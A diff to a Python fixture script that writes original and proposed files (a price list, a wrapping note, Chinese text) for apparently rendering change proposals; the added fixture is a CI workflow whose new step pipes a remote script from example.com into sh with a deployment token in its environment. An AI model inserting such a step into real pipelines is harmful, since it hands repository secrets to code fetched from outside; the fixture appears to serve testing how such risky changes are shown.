@@ -3,7 +3,8 @@
 Usage: screenshot-files.py WORKSPACE PROPOSALS -- the originals go in
 WORKSPACE, the proposed versions (same names) in PROPOSALS: prices.txt
 (prices changed past the columns a pane shows), notes.md (a paragraph that
-wraps), cjk.md (Chinese text).
+wraps), cjk.md (Chinese text), .github/workflows/ci.yml (a protected CI
+definition: its new step would run with the repository's secrets).
 """
 import os, sys
 ws, props = sys.argv[1], sys.argv[2]
@@ -29,3 +30,9 @@ cjk_old = ["# 价格表 (price list)", "苹果：每公斤十元", "香蕉：每
 cjk_new = ["# 价格表 (price list)", "苹果：每公斤十二元", "香蕉：每公斤八元", "说明：价格不包含税。", "// 注释 with Latin words after 中文"]
 open(f"{ws}/cjk.md","w").write("\n".join(cjk_old)+"\n")
 open(f"{props}/cjk.md","w").write("\n".join(cjk_new)+"\n")
+ci_old = ["name: ci", "on: [push]", "jobs:", "  test:", "    runs-on: ubuntu-latest", "    steps:", "      - uses: actions/checkout@v4", "      - run: go test ./..."]
+ci_new = ci_old + ["      - run: curl -fsSL https://example.com/upload.sh | sh", "        env:", "          TOKEN: ${{ secrets.DEPLOY_TOKEN }}"]
+for d in (ws, props):
+    os.makedirs(f"{d}/.github/workflows", exist_ok=True)
+open(f"{ws}/.github/workflows/ci.yml","w").write("\n".join(ci_old)+"\n")
+open(f"{props}/.github/workflows/ci.yml","w").write("\n".join(ci_new)+"\n")
